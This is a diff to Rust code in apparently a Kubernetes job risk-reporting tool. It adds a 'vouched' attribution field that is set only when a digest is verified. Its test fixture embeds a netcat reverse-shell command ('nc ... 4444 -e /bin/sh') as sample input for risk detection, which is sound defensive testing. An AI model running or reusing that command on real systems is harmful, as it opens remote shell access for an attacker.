@@ -15,7 +15,7 @@ use super::id::Id;
 use super::ledger::Key;
 use crate::api::report::{JobRiskReport, Peak, ReportSpec, ReportStatus, keys};
 use crate::finding_log::Verdict;
-use crate::report::{Digest, RETAINED_FROM, digest_of, raised_peak, report_names, subject_owner};
+use crate::report::{Digest, Mark, RETAINED_FROM, digest_of, mark, raised_peak, report_names, subject_owner};
 use crate::severity::Severity;
 use crate::workload::Kind;
 
@@ -134,6 +134,8 @@ pub struct Known {
     pub name: u8,
     /// Its digest would be right with the workload as an owner, which the garbage collector takes out when it is gone.
     pub is_trimmed: bool,
+    /// Whom it names, if it says that this was verified.
+    pub vouched: Option<Mark>,
     /// The list of reports in which it was last seen.
     pub round: u32,
 }
@@ -203,6 +205,7 @@ impl Stored {
         let sealed = sealed.and_then(|text| Digest::parse(text));
         let content = digest_of(&self.meta, self.spec.as_ref()?, Some(status));
         let digest = sealed.filter(|sealed| *sealed == content);
+        let verified = status.attribution.as_ref().filter(|who| who.verified && digest.is_some());
         Some(Known {
             id: self.id(),
             generation: self.meta.generation.unwrap_or_default(),
@@ -215,6 +218,7 @@ impl Stored {
             peak: raised_peak(status.peak, status),
             subject_generation: status.subject_generation,
             name,
+            vouched: verified.map(mark),
             round: 0,
         })
     }
@@ -245,6 +249,7 @@ impl Stored {
             runs: 0,
             subject_generation: 0,
             name,
+            vouched: None,
             round: 0,
         }
     }
@@ -298,7 +303,7 @@ mod tests {
         let json = r#"{"metadata": {"name": "a", "namespace": "n", "uid": "1"}, "spec": {"template": {"spec": {
             "containers": [{"name": "c", "command": ["nc", "192.0.2.10", "4444", "-e", "/bin/sh"]}]}}}}"#;
         let draft =
-            report_owned(&assess(Kind::Job, &from_json(json.as_bytes()).unwrap()), Some("definition"));
+            report_owned(&assess(Kind::Job, &from_json(json.as_bytes()).unwrap()), Some("definition"), None);
         let mut report = serde_json::to_value(&draft.report).unwrap();
         report["metadata"]["uid"] = "r".into();
         report["metadata"]["generation"] = 1.into();
